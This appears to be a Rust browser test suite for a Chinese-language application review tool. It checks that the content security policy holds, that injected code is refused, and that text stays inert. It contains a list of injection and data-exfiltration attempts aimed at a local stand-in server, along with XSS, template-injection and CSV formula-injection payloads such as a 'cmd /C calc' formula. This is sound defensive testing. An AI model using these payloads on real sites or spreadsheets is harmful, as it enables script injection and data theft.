//! The content security policy in the browser: nothing that the page does offends against it, what offends is
//! refused, and texts that would like to be markup, scripts or formulas stay texts.

use std::collections::BTreeSet;
use std::fs;
use std::io::{BufRead as _, BufReader, Write as _};
use std::net::{TcpListener, TcpStream};
use std::path::{Path, PathBuf};
use std::sync::{Arc, Mutex};
use std::thread;

use e2e::browser::{Browser, Profile};
use e2e::build::files;
use e2e::elsewhere::SINGLE_FILE;
use e2e::files::{Rubric, Sheet, envelope, items, percent};
use e2e::page::Stage;
use e2e::site::Site;
use serde_json::{Value, json};

/// Writes down every offence against the policy, from before the page's first script on.
const WATCH: &str = "window.offences = [];
    document.addEventListener('securitypolicyviolation', event => offences.push(event.effectiveDirective), true);";

/// A browser in which offences are written down, at the start screen.
fn watched<'s>(site: &'s Site, profile: &'s Profile) -> Browser<'s> {
    let page = Browser::start_empty(site, profile);
    page.devtools(
        "Page.addScriptToEvaluateOnNewDocument",
        json!({ "source": WATCH }),
    );
    page.go("#/");
    page
}

/// The directives that were offended against since the page was loaded.
fn offences(page: &Browser<'_>) -> Vec<String> {
    let offences = page.script("return offences", ());
    items(&offences)
        .iter()
        .filter_map(Value::as_str)
        .map(str::to_owned)
        .collect()
}

/// The files of the folder that are the page's own: neither compressed forms nor what is for those who serve it.
fn own_files(dist: &Path) -> BTreeSet<String> {
    let own = |name: &String| {
        !name.ends_with(".gz")
            && !name.ends_with(".br")
            && !name.starts_with("server/")
            && !["SHA256SUMS", SINGLE_FILE].contains(&name.as_str())
    };
    files(dist).into_iter().filter(own).collect()
}

/// What people do in a day: apply, review, collect, look at the example, print, change the language.
fn work(page: &Browser<'_>, rubric: &Rubric) {
    page.begin_self_assessment("第八法院");
    page.write("text-A", "我们每季度核对一次。");
    page.score_by_mouse(&rubric.clauses[0], 60);
    page.next_gap_by_mouse();
    page.open_overview();
    let application = page.export();
    page.begin_review(&application, Stage::Site, "陈立");
    page.enter_bands();
    for clause in &rubric.clauses {
        page.score_by_keyboard(clause, 70);
    }
    page.until_shown(".overview");
    page.judge("做法扎实。");
    let sheet = page.export();
    page.open_secretariat();
    page.import(&[sheet, application]);
    page.until("the ranking", || (!page.ranking().is_empty()).then_some(()));
    page.download(|page| page.click_named(".ranking button", "导出汇总 JSON"));
    page.download(|page| page.click_named(".ranking button", "导出汇总 CSV"));
    page.click_named(".masthead nav a", "开始");
    page.open_example();
    page.devtools("Page.printToPDF", json!({}));
    page.click_named(".masthead button", "English");
    page.until_shown("html[lang=en]");
    page.go("#/secretariat/example");
    page.until_shown(".ranking");
}

/// SPEC X1, X2
#[test]
fn a_day_of_work_offends_nothing_and_asks_only_for_the_pages_own_files() {
    let site = Site::serve();
    let profile = Profile::fresh();
    let rubric = Rubric::read(&site.file("rubrics/public-service.json"));
    let page = watched(&site, &profile);
    work(&page, &rubric);
    assert_eq!(offences(&page), Vec::<String>::new());
    let own = own_files(&site.dist());
    for path in site.asked() {
        assert!(path.is_empty() || own.contains(&path), "{path} was asked for");
    }
    // Not even to its own server does the page say where somebody stands.
    assert_eq!(site.asked_with_referrer(), Vec::<String>::new());
    assert_eq!(page.requests_elsewhere(), Vec::<String>::new());
    let cookies = page.devtools("Network.getAllCookies", json!({}));
    assert_eq!(cookies["cookies"], json!([]));
}

/// SPEC X2, L1
#[test]
fn a_day_of_work_in_the_one_file_offends_nothing() {
    let site = Site::on_disk();
    let profile = Profile::fresh();
    let rubric = Rubric::read(&site.file("rubrics/public-service.json"));
    let page = watched(&site, &profile);
    work(&page, &rubric);
    assert_eq!(offences(&page), Vec::<String>::new());
}

/// SPEC X2
#[test]
fn both_forms_carry_a_policy_without_exceptions() {
    let site = Site::serve();
    for file in ["index.html", SINGLE_FILE] {
        let html = site.file(file);
        let (before, rest) = html
            .split_once("<meta http-equiv=\"Content-Security-Policy\" content=\"")
            .unwrap_or_else(|| panic!("{file} has no policy"));
        assert!(
            !before.contains("<script") && !before.contains("<style") && !before.contains("<link"),
            "the policy comes too late in {file}"
        );
        let policy = rest.split('"').next().expect("its end");
        for demand in [
            "default-src 'none'",
            "base-uri 'none'",
            "form-action 'none'",
            "'wasm-unsafe-eval'",
            "require-trusted-types-for 'script'",
        ] {
            assert!(policy.contains(demand), "{file} lacks {demand}: {policy}");
        }
        for exception in [
            "unsafe-inline",
            "'unsafe-eval'",
            "http",
            "*",
            "'allow-duplicates'",
        ] {
            assert!(!policy.contains(exception), "{file} has {exception}: {policy}");
        }
    }
    let policy = site.file(SINGLE_FILE);
    assert!(!policy.split("</head>").next().expect("a head").contains("'self'"));
}

/// Attempts on the page, by name: each is tried from a task of the page's own, where nothing of the test's tools
/// lifts the policy. `bait` is the address of another server, `ran` is called by whatever runs.
const ATTEMPTS: [(&str, &str); 26] = [
    (
        "inline script",
        "const s = document.createElement('script'); s.append(document.createTextNode('ran()')); document.body.append(s)",
    ),
    (
        "inline module",
        "const s = document.createElement('script'); s.type = 'module'; s.append(document.createTextNode('ran()')); document.body.append(s)",
    ),
    (
        "markup",
        "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=ran()>')",
    ),
    (
        "inner markup",
        "document.querySelector('main').innerHTML += '<svg onload=ran()></svg>'",
    ),
    (
        "handler",
        "const b = document.createElement('button'); b.setAttribute('onclick', 'ran()'); document.body.append(b); b.click()",
    ),
    (
        "script address",
        "const s = document.createElement('script'); s.src = bait + 'a.js'; document.body.append(s)",
    ),
    ("eval", "eval('ran()')"),
    ("Function", "new Function('ran()')()"),
    ("timer", "setTimeout('ran()', 0)"),
    (
        "link to a script",
        "const a = document.createElement('a'); a.href = 'javascript:ran()'; document.body.append(a); a.click()",
    ),
    ("import of data", "await import('data:text/javascript,ran()')"),
    (
        "import of a blob",
        "await import(URL.createObjectURL(new Blob(['ran()'], { type: 'text/javascript' })))",
    ),
    ("import from elsewhere", "await import(bait + 'a.js')"),
    ("fetch", "await fetch(bait)"),
    (
        "request",
        "const x = new XMLHttpRequest(); x.open('POST', bait); x.send('secret')",
    ),
    ("beacon", "navigator.sendBeacon(bait, 'secret')"),
    ("socket", "new WebSocket(bait.replace('http', 'ws'))"),
    ("events", "new EventSource(bait)"),
    (
        "picture",
        "const i = new Image(); i.src = bait + '?secret'; document.body.append(i)",
    ),
    (
        "background",
        "document.body.style.backgroundImage = `url(${bait})`",
    ),
    (
        "style sheet",
        "const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = bait; document.head.append(l)",
    ),
    (
        "fetched ahead",
        "const l = document.createElement('link'); l.rel = 'prefetch'; l.href = bait; document.head.append(l)",
    ),
    (
        "frame",
        "const f = document.createElement('iframe'); f.src = bait; document.body.append(f)",
    ),
    (
        "object",
        "const o = document.createElement('object'); o.data = bait; document.body.append(o)",
    ),
    (
        "form",
        "const f = document.createElement('form'); f.action = bait; f.method = 'post'; document.body.append(f); f.submit()",
    ),
    (
        "base",
        "const b = document.createElement('base'); b.href = bait; document.head.append(b)",
    ),
];

/// SPEC X3, X4
#[test]
fn what_stands_against_the_policy_is_refused() {
    refuse_all(&Site::serve());
}

/// SPEC X3, X4
#[test]
fn what_stands_against_the_policy_of_the_one_file_is_refused() {
    refuse_all(&Site::on_disk());
}

fn refuse_all(site: &Site) {
    let bait = Bait::open();
    let profile = Profile::fresh();
    let page = watched(site, &profile);
    // In a task of the page's own, so that the test's tools do not lift the policy; then it waits for all that was
    // set going.
    const TRY: &str = "
        const [attempt, bait, done] = arguments;
        window.hasRun = false; window.ran = () => { window.hasRun = true; };
        offences.length = 0;
        window.bait = bait;
        const begun = new Promise(resolve => { window.tell = resolve; });
        setTimeout(async () => {
            let thrown = '';
            try { await window.attempts[attempt](bait); } catch (error) { thrown = error.name; }
            const settled = () => new Promise(resolve => requestAnimationFrame(() => setTimeout(resolve)));
            for (let frame = 0; frame < 6; frame += 1) await settled();
            tell(thrown);
        });
        begun.then(thrown => done({ thrown, ran: window.hasRun, offences: [...offences], base: document.baseURI }));";
    for (at, (name, code)) in ATTEMPTS.iter().enumerate() {
        // Defined from outside, where it may be; what it does counts as the page's own.
        let define = format!("window.attempts ??= {{}}; window.attempts[{at}] = async bait => {{ {code} }};");
        page.devtools("Runtime.evaluate", json!({ "expression": define }));
        let told = page.script_later(TRY, (at, bait.address.clone()));
        assert_eq!(told["ran"], false, "{name} ran: {told}");
        let refused = told["thrown"] != "" || !items(&told["offences"]).is_empty();
        assert!(refused, "{name} was not refused: {told}");
        assert_eq!(told["base"], page.script("return location.href", ()), "{name}");
    }
    assert_eq!(
        bait.heard(&page),
        ["GET /own HTTP/1.1\r\n"],
        "something has left the page"
    );
    // What was refused stands in the console; that is no fault of the page.
    assert!(!page.console_errors().is_empty());
    // And the page goes on.
    page.click_named(".way a", "开始自我评价");
    page.until_shown("#applicant-name");
    page.console_errors();
}

/// Another server, which writes down what it is asked.
struct Bait {
    address: String,
    port: u16,
    asked: Arc<Mutex<Vec<String>>>,
}

impl Bait {
    /// Begins to listen, and ends with the test's program.
    fn open() -> Self {
        let listener = TcpListener::bind(("127.0.0.1", 0)).expect("a free port");
        let port = listener.local_addr().expect("the port it is").port();
        let asked = Arc::new(Mutex::new(Vec::new()));
        let address = format!("http://127.0.0.1:{port}/");
        let bait = Self {
            address,
            port,
            asked: Arc::clone(&asked),
        };
        thread::spawn(move || {
            for visitor in listener.incoming().flatten() {
                let asked = Arc::clone(&asked);
                thread::spawn(move || {
                    let mut line = String::new();
                    // A connection that says nothing asks for nothing: browsers open some ahead, and drop them.
                    if BufReader::new(visitor)
                        .read_line(&mut line)
                        .is_ok_and(|length| length > 0)
                    {
                        asked.lock().expect("a list").push(line);
                    }
                });
            }
        });
        bait
    }

    /// What it was asked for, up to a question of our own, which shows that it hears.
    fn heard(&self, page: &Browser<'_>) -> Vec<String> {
        let mut visitor = TcpStream::connect(("127.0.0.1", self.port)).expect("the bait is open");
        visitor.write_all(b"GET /own HTTP/1.1\r\n\r\n").expect("it hears");
        page.until("the bait to hear", || {
            let asked = self.asked.lock().expect("a list").clone();
            asked
                .iter()
                .any(|line| line.starts_with("GET /own "))
                .then_some(asked)
        })
    }
}

/// Texts that would like to be more: each sets `window.ran` where it runs, or brings an element where it is markup.
fn payloads() -> Vec<String> {
    let mut payloads: Vec<String> = [
        "<script>window.ran=1</script>",
        "<img src=x onerror=window.ran=1>",
        "\"><svg/onload=window.ran=1>",
        "'><iframe srcdoc='<script>parent.ran=1</script>'>",
        "</textarea></title></style><script>window.ran=1</script>",
        "<!--<script>window.ran=1//-->",
        "<a href=\"javascript:window.ran=1\">甲</a>",
        "javascript:window.ran=1",
        "{{constructor.constructor('window.ran=1')()}}",
        "${window.ran=1}<%= window.ran=1 %>#{window.ran=1}",
        "&lt;script&gt;&#x3C;img&#62;&amp;",
        "\u{202E}gnp.elif\u{202C}\u{2066}甲\u{2069}",
        "甲\u{200B}\u{FEFF}\u{AD}乙",
        "=HYPERLINK(\"http://127.0.0.1/\",\"甲\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1)",
        "\u{FF1D}1+1",
        "\u{FF0B}1",
        "\u{FF0D}1",
        "\u{FF20}SUM(1)",
        "\u{200B}=1+1",
        "CON",
        "../../甲/乙\\丙:丁|戊?.json.",
    ]
    .map(str::to_owned)
    .to_vec();
    payloads.push("超长的名称".repeat(400));
    payloads
}

/// As names are kept: blanks folded.
fn squeezed(text: &str) -> String {
    text.split_whitespace().collect::<Vec<_>>().join(" ")
}

/// Nothing has run, and no element is there that a text would have brought.
#[track_caller]
fn assert_only_text(page: &Browser<'_>, place: &str) {
    const BROUGHT: &str = "return Array.from(document.querySelectorAll(
        'body script:not([src]):not([data-file]):not([data-program]):not([type=module]), img, iframe, object, embed, base, [onerror], [onload], [srcdoc], svg:not([class]), a[href^=\"javascript\" i]'))
        .filter(one => one.textContent !== arguments[0]).map(one => one.outerHTML.slice(0, 100))";
    // In the one file the page's own guard stands in the body.
    let brought = page.script(BROUGHT, page.site().file("guard.js").as_str());
    assert_eq!(brought, json!([]), "{place}");
    assert_eq!(
        page.script("return window.ran === undefined", ()),
        true,
        "{place}: something ran"
    );
    assert_eq!(offences(page), Vec::<String>::new(), "{place}");
}

/// The whole text of the page, folded pieces and fields too.
fn whole_text(page: &Browser<'_>) -> String {
    const WHOLE: &str = "return document.body.textContent + Array.from(document.querySelectorAll('input, textarea'), one => one.value).join(' ')";
    page.script(WHOLE, ()).as_str().unwrap_or_default().to_owned()
}

/// A text as the page shows it outside its field: what nobody would see is a sign (SPEC P51).
fn in_signs(text: &str) -> String {
    let sign = |character: char| match character {
        '\u{AD}' | '\u{200B}' | '\u{202C}' | '\u{202E}' | '\u{2066}' | '\u{2069}' | '\u{FEFF}' => {
            format!("\\u{{{:x}}}", u32::from(character))
        }
        _ => character.to_string(),
    };
    text.chars().map(sign).collect()
}

#[track_caller]
fn assert_shown(page: &Browser<'_>, place: &str, texts: &[String]) {
    page.until(&format!("{place} to show every text"), || {
        let whole = whole_text(page);
        let is_shown = |text: &String| whole.contains(text) || whole.contains(&in_signs(text));
        texts.iter().all(is_shown).then_some(())
    });
    assert_only_text(page, place);
}

/// The shipped rubric, with a payload in place of every text in it.
fn zoo_rubric(site: &Site, payloads: &[String]) -> Rubric {
    fn poison(value: &mut Value, payloads: &[String], next: &mut usize) {
        match value {
            Value::Array(list) => list.iter_mut().for_each(|item| poison(item, payloads, next)),
            Value::Object(members) => {
                for (name, member) in members {
                    if ["zh", "en"].contains(&name.as_str()) {
                        *member = payloads[*next % payloads.len()].clone().into();
                        *next += 1;
                    } else {
                        poison(member, payloads, next);
                    }
                }
            }
            _ => {}
        }
    }
    let file: Value = serde_json::from_str(&site.file("rubrics/public-service.json")).expect("JSON");
    let mut payload = file["payload"].clone();
    let mut next = 0;
    // The names that head columns and rows first, so that each payload is one of them.
    for part in payload["parts"].as_array_mut().expect("parts") {
        let mut name = |node: &mut Value| {
            node["name"] = json!({ "zh": payloads[next % payloads.len()] });
            next += 1;
        };
        name(part);
        for clause in part["clauses"].as_array_mut().expect("clauses") {
            name(clause);
        }
    }
    for member in ["methods", "sources", "comments"] {
        poison(&mut payload[member], payloads, &mut next);
    }
    for part in payload["parts"].as_array_mut().expect("parts") {
        for clause in part["clauses"].as_array_mut().expect("clauses") {
            for member in ["requirement", "guidance", "look_at"] {
                poison(&mut clause[member], payloads, &mut next);
            }
        }
    }
    payload["title"] = json!({ "zh": TITLE });
    payload["id"] = json!("<img src=x onerror=window.ran=1>");
    payload["version"] = json!("=1+1");
    Rubric::read(&envelope("rubric", &payload, None))
}

const TITLE: &str = "<b onclick=window.ran=1>标准</b><script>window.ran=1</script>";

/// Puts a text into a field as typing it would, whatever characters it has.
#[track_caller]
fn type_in(page: &Browser<'_>, css: &str, text: &str) {
    const TYPE: &str = "const one = document.querySelector(arguments[0]);
        Object.getOwnPropertyDescriptor(Object.getPrototypeOf(one), 'value').set.call(one, arguments[1]);
        one.dispatchEvent(new InputEvent('input', { bubbles: true }));
        one.dispatchEvent(new Event('change', { bubbles: true }));";
    page.until_shown(css);
    page.script(TYPE, (css, text));
}

/// SPEC X5, X6, O8
#[test]
fn what_is_typed_or_imported_stays_text_everywhere() {
    stay_text(&Site::serve());
}

/// SPEC X5, L1
#[test]
fn what_is_typed_or_imported_stays_text_in_the_one_file_too() {
    stay_text(&Site::on_disk());
}

fn stay_text(site: &Site) {
    let payloads = payloads();
    // In one line, for names that are typed; the very long one comes from files.
    let short: Vec<String> = payloads[..payloads.len() - 1].to_vec();
    let name = squeezed(&short.join(" "));
    let many = payloads.join("\n");
    let lines = |text: &str| -> Vec<String> { text.split('\n').map(str::to_owned).collect() };
    let rubric = zoo_rubric(site, &payloads);
    let profile = Profile::fresh();
    let page = watched(site, &profile);

    // A rubric with such names, and an applicant with such a name.
    page.drop_files(
        "main .drop",
        &[("<img src=x onerror=window.ran=1>.json", rubric.text.as_bytes())],
    );
    page.until_said(".notice.good", TITLE);
    assert_only_text(&page, "the rubric was opened");
    page.click_named(".way a", "开始自我评价");
    type_in(&page, "#applicant-name", &name);
    page.choose("#rubric-choice", TITLE);
    assert_only_text(&page, "beginning");
    page.click_named("button[type=submit]", "开始评分");
    page.until_shown("article[data-clause]");

    // The clause, and every field of it.
    let fields = page.script(
        "return Array.from(document.querySelectorAll('article textarea'), one => '#' + one.id)",
        (),
    );
    assert!(items(&fields).len() >= 4, "{fields}");
    for field in items(&fields) {
        type_in(&page, field.as_str().expect("a field"), &many);
    }
    assert_shown(&page, "the clause", &lines(&many));
    page.score_by_mouse(&rubric.clauses[0], 60);
    for clause in &rubric.clauses[1..3] {
        page.open_clause(&clause.code);
        assert_only_text(&page, "another clause");
    }
    page.open_overview();
    type_in(&page, "#f-overview", &many);
    type_in(&page, "#f-overall", &many);
    assert_shown(&page, "the overview", &payloads);
    page.on_paper(true);
    assert_shown(&page, "the paper", &payloads);
    page.devtools("Page.printToPDF", json!({}));
    page.on_paper(false);
    let application = page.export();
    assert_safe_name(&application);
    page.click_named(".masthead nav a", "开始");
    page.until_shown(".draft");
    assert_shown(&page, "the card", std::slice::from_ref(&name));

    // What an assessor sees of it, who has such a name too.
    page.reload();
    page.click_named(".way a", "开始评审");
    page.choose_files("#open-application", std::slice::from_ref(&application));
    type_in(&page, "#assessor-name", &name);
    assert_shown(&page, "the application", std::slice::from_ref(&name));
    page.click_named("button[type=submit]", "开始评分");
    page.until_shown("article.context");
    page.click_named(".context .neighbours a", "从第一条开始");
    page.until_shown(".applicant-words");
    assert_shown(&page, "the review", &lines(&many));

    // The secretariat, with an applicant and an assessor of every such name.
    page.click("a[href='#/secretariat']");
    page.until_shown("#import-files");
    let application = fs::read(&application).expect("the application");
    let mut files: Vec<(String, Vec<u8>)> = vec![("申报.json".to_owned(), application)];
    for payload in &payloads {
        let sheet = Sheet {
            rubric: &rubric,
            stage: "site",
            applicant: payload,
            assessor: payload,
            application: None,
            values: vec![percent(50); rubric.clauses.len()],
            overall: payload,
        };
        files.push((
            format!("{}.json", payload.chars().take(60).collect::<String>()),
            sheet.file().into(),
        ));
    }
    let dropped: Vec<(&str, &[u8])> = files
        .iter()
        .map(|(name, bytes)| (name.as_str(), bytes.as_slice()))
        .collect();
    page.drop_files(".drop", &dropped);
    page.until_imported(dropped.len());
    let refused: Vec<_> = page
        .verdicts()
        .into_iter()
        .filter(|row| row.verdict != "已接收")
        .collect();
    assert!(refused.is_empty(), "{refused:#?}");
    let names: Vec<String> = payloads.iter().map(|payload| squeezed(payload)).collect();
    assert_shown(&page, "the desk", &names);
    assert_eq!(
        page.ranking().len(),
        payloads.len() + usize::from(!names.contains(&name))
    );
    page.script(
        "document.querySelectorAll('details').forEach(one => { one.open = true; })",
        (),
    );
    assert_shown(&page, "the desk with everything open", &names);
    page.devtools("Page.printToPDF", json!({}));

    // What leaves it.
    let csv = page.download(|page| page.click_named(".ranking button", "导出汇总 CSV"));
    assert_harmless(&csv, &names);
    let json = page.download(|page| page.click_named(".ranking button", "导出汇总 JSON"));
    assert_safe_name(&json);
    let csv = page.download(|page| page.click_named("details.applicant button", "导出本阶段 CSV"));
    assert_harmless(&csv, &payloads);
    let json = page.download(|page| page.click_named("details.applicant button", "导出本阶段 JSON"));
    assert_safe_name(&json);
    assert_only_text(&page, "after the exports");
}

/// The name of a file that was handed out is safe on every system.
#[track_caller]
fn assert_safe_name(file: &Path) {
    let name = file
        .file_name()
        .and_then(|name| name.to_str())
        .expect("a readable name");
    let plain = |character: char| character.is_alphanumeric() || "-_.".contains(character);
    assert!(name.chars().all(plain), "{name:?}");
    assert!(name.len() <= 181 && !name.starts_with(['.', '-']), "{name:?}");
    assert!(name.ends_with(".json") || name.ends_with(".csv"), "{name:?}");
}

/// No cell of a table begins like a formula, and every name is in it.
#[track_caller]
fn assert_harmless(file: &PathBuf, names: &[String]) {
    assert_safe_name(file);
    let text = fs::read_to_string(file).expect("a CSV");
    let text = text.strip_prefix('\u{FEFF}').expect("a byte order mark");
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(text.as_bytes());
    let cells: Vec<String> = reader
        .records()
        .flat_map(|row| row.expect("a row").iter().map(str::to_owned).collect::<Vec<_>>())
        .collect();
    for cell in &cells {
        let unseen = |character: char| {
            character.is_whitespace()
                || character.is_control()
                || "\u{200B}\u{202E}\u{FEFF}".contains(character)
        };
        let first = cell.trim_start_matches(unseen).chars().next().unwrap_or('a');
        assert!(
            !"=+-@\u{FF1D}\u{FF0B}\u{FF0D}\u{FF20}".contains(first),
            "{cell:?} is a formula"
        );
    }
    for name in names {
        let shown = shown(name);
        let forms = [shown.clone(), format!("'{shown}"), format!("[{shown}]")];
        assert!(
            forms.iter().any(|form| cells.contains(form)),
            "{name:?} is missing: {cells:?}"
        );
    }
}

/// A text as files for people show it: the characters of these payloads that nobody sees, by their numbers (SPEC O12).
fn shown(text: &str) -> String {
    let unseen =
        |character: char| "\u{200B}\u{202C}\u{202E}\u{2066}\u{2069}\u{FEFF}\u{AD}".contains(character);
    let each = text.chars().map(|character| match character {
        character if unseen(character) => character.escape_unicode().to_string(),
        character => character.to_string(),
    });
    each.collect()
}
